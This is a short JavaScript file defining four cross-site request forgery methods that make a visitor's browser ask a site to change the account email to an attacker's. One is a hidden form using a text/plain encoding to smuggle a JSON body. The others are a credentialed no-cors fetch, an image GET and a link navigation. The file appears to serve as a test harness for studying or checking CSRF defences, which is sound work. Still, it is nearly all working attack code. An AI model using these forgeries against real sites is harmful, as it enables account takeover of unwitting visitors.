/** What a page of another site can make a visitor's browser send, without the visitor's doing. */

/** @param {string} url Where a change of the email address is asked for. @param {string} email The attacker's. */
globalThis.forge = {
  /** A form: a navigation by POST. Its body is JSON in all but its content type. */
  form(url, email) {
    const form = document.createElement("form");
    form.method = "post";
    form.enctype = "text/plain";
    form.action = url;
    const field = document.createElement("input");
    field.name = `{"email": "${email}", "`;
    field.value = `": 0}`;
    form.append(field);
    document.body.append(form);
    form.submit();
  },

  /** A fetch that asks no leave, since a form could send the same. */
  async fetch(url, email) {
    await fetch(url, {
      method: "POST",
      mode: "no-cors",
      credentials: "include",
      body: JSON.stringify({ email }),
    });
  },

  /** A picture: a GET within the page. */
  image(url, email) {
    return new Promise((done) => {
      const image = new Image();
      image.onload = image.onerror = () => done();
      image.src = `${url}?email=${encodeURIComponent(email)}`;
    });
  },

  /** A link: a navigation by GET. */
  link(url, email) {
    location.assign(`${url}?email=${encodeURIComponent(email)}`);
  },
};
